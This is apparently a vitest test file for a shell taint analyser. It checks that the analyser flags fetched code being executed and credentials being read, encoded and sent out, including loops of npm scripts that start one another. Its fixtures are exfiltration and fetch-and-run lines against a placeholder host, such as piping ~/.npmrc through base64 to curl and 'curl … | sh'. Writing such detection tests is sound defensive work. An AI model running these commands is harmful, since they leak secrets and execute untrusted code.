import { describe, expect, it } from 'vitest'
import { COLLECTED, FETCHED, SOURCES, taint } from '../taint.ts'
import { FakeDesk, named, placed } from './fake-desk.ts'

describe('what a line is given, and gives', () => {
  const secret = taint(SOURCES.credentials, [])
  const fetched = taint(FETCHED, [])

  it.each([
    ['…', fetched, 'execute<fetched> … …'],
    ['sh -c "…"', fetched, 'execute<fetched> sh …'],
    ['curl -d "…" https://a.example', secret, 'send<credentials> curl https://a.example'],
    ['X="…"; wget "https://a.example/?$X"', secret, 'send<credentials> wget https://a.example/?…'],
  ])('%s holds what the code around it says', (line, unknown, expected) => {
    const desk = new FakeDesk()
    desk.shell(line, placed(line), unknown)
    expect(desk.lines).toContain(expected)
  })

  it.each([
    ['curl https://a.example', '<fetched>'], ['id', '<host>'], ['cat ~/.ssh/id_rsa | base64', '<encoded+credentials>'], ['echo eA== | base64 -d', '<decoded>'], ['ls', ''], ['curl https://a.example -o x', ''],
  ])('the output of %s holds %s', (line, expected) => expect(named(new FakeDesk().shell(line, placed(line)))).toBe(expected))

  it('reads words that code puts together, each with what it holds', () => {
    const desk = new FakeDesk()
    desk.program(['curl', '-d', '…', 'https://a.example'], placed(''), [taint(0, []), taint(0, []), secret])
    expect(desk.lines).toEqual(['fetch curl https://a.example', 'send<credentials> curl https://a.example'])
  })

  it('runs a file that code says it fetched', () => {
    const desk = new FakeDesk()
    desk.program(['/tmp/x'], placed(''), [fetched])
    expect(desk.lines).toEqual(['spawn<fetched> x /tmp/x'])
  })
})

it('tells the way of the data, oldest step first', () => {
  const line = 'cat ~/.npmrc | base64 | curl -d @- https://a.example'
  const desk = new FakeDesk()
  desk.shell(line, placed(line))
  const sent = desk.notes.find((note) => note.kind === 'send')
  expect((sent?.taint.bits ?? 0) & COLLECTED).toBe(SOURCES.credentials)
  expect(sent?.taint.trail.map(({ kind, call, argument }) => `${kind} ${call} ${argument}`)).toEqual(['collect cat ~/.npmrc', 'encode base64 base64'])
})

it('says where in a script a command stands', () => {
  const text = '#!/bin/sh\n\necho hi\ncurl https://a.example |\n  sh\n'
  const desk = new FakeDesk()
  desk.shell(text, { source: { path: 'x.sh', text, anchor: null }, from: 0, to: text.length })
  expect(desk.places.map(({ from, to }) => text.slice(from, to).trim())).toEqual(['curl https://a.example', 'sh'])
})

it('remembers files from one line to the next', () => {
  const desk = new FakeDesk()
  desk.shell('curl https://a.example -o /tmp/x', placed(''))
  desk.shell('sh /tmp/x', placed(''))
  expect(desk.lines).toContain('execute<fetched> sh sh /tmp/x')
})

it('hands code to the readers of other languages', () => {
  const line = `python3 -c 'import socket' && node -e "eval(1)" && node x.js && bash y.sh`
  const desk = new FakeDesk()
  desk.shell(line, placed(line))
  expect(desk.codes).toEqual([{ language: 'python', text: 'import socket' }, { language: 'javascript', text: 'eval(1)' }])
  expect(desk.opened).toEqual(['x.js', 'y.sh'])
})

it('hands folded and decoded text over for a second look', () => {
  const line = 'a=cu; ${a}rl https://a.example; echo aHR0cHM6Ly9iLmV4YW1wbGU= | base64 -d'
  const desk = new FakeDesk()
  desk.shell(line, placed(line))
  expect(desk.texts).toEqual(['folded curl https://a.example', 'decoded https://b.example'])
})

describe('scripts of the package that start one another', () => {
  const read = (scripts: Readonly<Record<string, string>>, line = 'npm run a'): FakeDesk => {
    const desk = new FakeDesk({}, scripts)
    desk.shell(line, placed(line))
    return desk
  }
  const RUNS = expect.arrayContaining([expect.stringMatching(/^(?:execute|spawn)<fetched> /)])

  it.each<[string, Readonly<Record<string, string>>]>([
    ['itself', { a: 'npm run a' }],
    ['each other', { a: 'npm run b', b: 'npm run a && eslint .' }],
    ['by what runs before and after', { a: 'tape test/*.js', posta: 'npm run b', b: 'cd test/b && npm install && npm run a' }],
    ['with a variable that is always the same', { a: 'X=1 npm run b', b: 'npm run a' }],
    ['with a file that is always the same', { a: 'echo hi > x.txt && npm run b', b: 'npm run a' }],
    ['from within a function', { a: 'f() { npm run a; }; f' }],
    ['in two circles', { a: 'npm run b; npm run c', b: 'npm run a; npm run c', c: 'npm run b; npm run c; npm test', test: 'npm run a' }],
  ])('%s, round and round, are read once', (_how, scripts) => {
    expect(read(scripts).missing).toEqual([])
  })

  it('are read to their end', () => {
    const desk = read({ a: 'npm run b', b: 'npm run a && curl https://a.example | sh' })
    expect(desk.lines).toContain('execute<fetched> sh sh')
    expect(desk.missing).toEqual([])
  })

  it.each<[string, Readonly<Record<string, string>>]>([
    ['a variable', { a: `eval "$X"; X='curl https://a.example | sh' npm run a` }],
    ['a variable of the script before', { a: 'eval "$X"; npm run b', b: `X='curl https://a.example | sh'; npm run a` }],
    ['a file', { a: 'sh /tmp/x; curl https://a.example -o /tmp/x; npm run a' }],
    ['what an archive let loose', { a: 'sh ./x/y; curl https://a.example | tar x; npm run a' }],
    ['a function', { a: 'f; f() { curl https://a.example | sh; }; npm run a' }],
    ['the third round', { a: `eval "$Y"; Y="$X" X='curl https://a.example | sh' npm run a` }],
    ['a function that means the program again', { a: 'curl() { :; }; curl https://a.example; curl() { npm run b; }; npm run b', b: 'curl https://a.example | sh' }],
  ])('are read again for %s that the round before left', (_what, scripts) => {
    expect(read(scripts).lines).toEqual(RUNS)
  })

  it.each<[string, Readonly<Record<string, string>>]>([
    ['for whoever started it', { a: 'npm run a; sh /tmp/x; curl https://a.example -o /tmp/x' }],
    ['for a round in between', { a: 'npm run b; sh /tmp/x', b: 'npm run a; curl https://a.example -o /tmp/x' }],
    ['that grows with every round', { a: 'X="$X."; npm run a' }],
    ['that comes and goes', { a: 'X=1; npm run b', b: 'X=2; npm run a' }],
  ])('are not called read when something is left %s', (_whom, scripts) => {
    expect(read(scripts).missing).not.toEqual([])
  })
})
